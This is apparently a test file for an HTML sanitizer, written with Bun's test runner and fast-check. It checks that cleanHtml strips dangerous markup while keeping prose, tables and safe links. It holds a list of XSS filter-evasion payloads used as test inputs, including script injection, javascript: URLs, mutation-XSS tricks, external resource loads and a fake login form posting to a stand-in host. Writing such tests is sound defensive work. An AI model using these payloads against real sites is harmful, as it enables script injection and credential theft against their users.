import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { cleanHtml } from "../../src/kit/html.ts";

const allowedTags = new Set(
  "p div span br hr pre blockquote figure figcaption h2 h3 h4 h5 h6 a abbr b cite code del dfn em i img ins kbd mark q s samp small strong sub sup u var ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td".split(
    " ",
  ),
);
const allowedAttributes = new Set(
  "lang href rel title src alt width height start reversed value span colspan rowspan scope".split(" "),
);

/** Reads clean HTML by a grammar far narrower than a browser's: anything that does not fit it fails the test. */
function expectHarmless(html: string): void {
  const outside = html.replace(
    /<(\/?)([a-z0-9]+)((?: [a-z]+(?:="[^"<>]*")?)*)( ?\/?)>/g,
    (_all, close, tag, attributes) => {
      expect(allowedTags).toContain(tag);
      if (close !== "") expect(attributes).toBe("");
      for (const [, name = "", value = ""] of attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
        expect(allowedAttributes).toContain(name);
        if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
        if (name === "src") expect(value).toBe("/ours.png");
      }
      return "";
    },
  );
  expect(outside).not.toMatch(/[<>]/);
}

const ours = (src: string) => (src === "ours.png" ? "/ours.png" : null);

describe("payloads", () => {
  // The families of OWASP's XSS filter evasion cheat sheet, of mutation XSS, and of htmx's own attributes.
  const payloads = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="javascript:alert(1)">',
    "<img src=ours.png onerror=alert(1)>",
    "<img src=ours.png/onerror=alert(1)//>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=&#106;&#97;&#118;&#97;>",
    '<img src="http://elsewhere.example/pixel.png">',
    '<img src="//elsewhere.example/pixel.png">',
    '<img src="\\\\elsewhere.example\\pixel.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="/logout">',
    '<img srcset="http://elsewhere.example/x 2x" src=ours.png>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//elsewhere.example">x</a>',
    '<a href="/logout" target="_top">x</a>',
    '<a href="#main" id="main" name="forms">x</a>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,x"></object><embed src="x.swf">',
    '<base href="http://elsewhere.example/">',
    '<link rel="stylesheet" href="http://elsewhere.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<style>@import "http://elsewhere.example/x.css";</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<p class="button" id="login" name="cookie">x</p>',
    '<form action="http://elsewhere.example"><input name="password"><button>Log in</button></form>',
    '<body onload=alert(1) background="javascript:alert(1)">x</body>',
    '<table background="javascript:alert(1)"><td background="x">x</td></table>',
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="/logout" data-hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)" hx-on--load="alert(1)">x</div>',
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a\u0000 href='javascript:alert(1)'>x</a>",
    "<img src='ours.png' alt='\"><script>alert(1)</script>'>",
    "</div></main></body><h1>Log in here</h1>",
    '<td colspan="99999999" rowspan="-1">x</td>',
    "<<b>>x<</b>>",
  ];
  test.each(payloads)("%j", (payload) => {
    const clean = cleanHtml(payload, ours);
    expectHarmless(clean);
    expect(cleanHtml(`<p>before</p>${payload}`, ours)).toStartWith("<p>before</p>");
  });

  test("any mixture of their pieces comes out harmless", () => {
    const piece = fc.constantFrom(...payloads.flatMap((payload) => payload.split(/(?=[<>"'=/ ])/)));
    const mixture = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(""));
    fc.assert(
      fc.property(mixture, (text) => expectHarmless(cleanHtml(text, ours))),
      { numRuns: 1000 },
    );
  });
});

test("prose, lists, tables, links and pictures stay", () => {
  const html =
    '<p lang="de">Ein <em>Satz</em> &amp; <code>x &lt; 1</code>.</p><ol start="3"><li>drei</li></ol>' +
    '<table><thead><tr><th scope="col" colspan="2">Kopf</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>' +
    '<blockquote>Zitat<br /></blockquote><img src="/ours.png" alt="A curve" width="300" />';
  expect(cleanHtml(html.replace("/ours.png", "ours.png"), ours)).toBe(html);
});

test("links lead out, and give away neither window nor reputation", () => {
  expect(cleanHtml('<a href="https://example.org/a?b=1&c=2" target="_blank">x</a>')).toBe(
    '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow">x</a>',
  );
  expect(cleanHtml('<a href="mailto:a@example.org">x</a>')).toBe(
    '<a href="mailto:a@example.org" rel="noopener nofollow">x</a>',
  );
  for (const href of ["/elsewhere", "//example.org", "#top", "javascript:alert(1)", "ftp://example.org/x"]) {
    expect(cleanHtml(`<a href="${href}">x</a>`)).toBe("<span>x</span>");
  }
});

test("only relative pictures are asked for, and only plain numbers stay in attributes", () => {
  const asked: string[] = [];
  const written = [
    "a.png",
    " b/c.png",
    "/d.png",
    "//e/f.png",
    "https://g/h.png",
    "data:image/png;base64,x",
    "\\i",
    "",
  ];
  const html = written.map((src) => `<img src="${src}">`).join("");
  const clean = cleanHtml(html, (src) => {
    asked.push(src);
    return "/ours.png";
  });
  expect(asked).toEqual(["a.png", "b/c.png"]);
  expect(clean).toBe('<img src="/ours.png" alt="" />'.repeat(2));
  expect(cleanHtml('<table><tr><td colspan="99999999" rowspan="2">x</td></tr></table>')).toBe(
    '<table><tr><td rowspan="2">x</td></tr></table>',
  );
});

test("headings move down a level, the last stays", () => {
  expect(cleanHtml("<h1>1</h1><h2>2</h2><h5>5</h5><h6>6</h6>")).toBe(
    "<h2>1</h2><h3>2</h3><h6>5</h6><h6>6</h6>",
  );
});

test("elements come out balanced; text of scripts, styles and titles goes, of unknown elements stays", () => {
  expect(cleanHtml("</div></section><p>a<b>b")).toBe("<p>a<b>b</b></p>");
  expect(cleanHtml("<html><head><title>T</title><style>x</style></head><center>stays</center></html>")).toBe(
    "stays",
  );
});

test("text that takes too long to read is refused", () => {
  expect(() => cleanHtml("<b>x</i>".repeat(10_001))).toThrow("more than 20,000 tags");
  expect(() => cleanHtml("x".repeat(2 * 1024 ** 2 + 1))).toThrow("longer than 2 MiB");
});
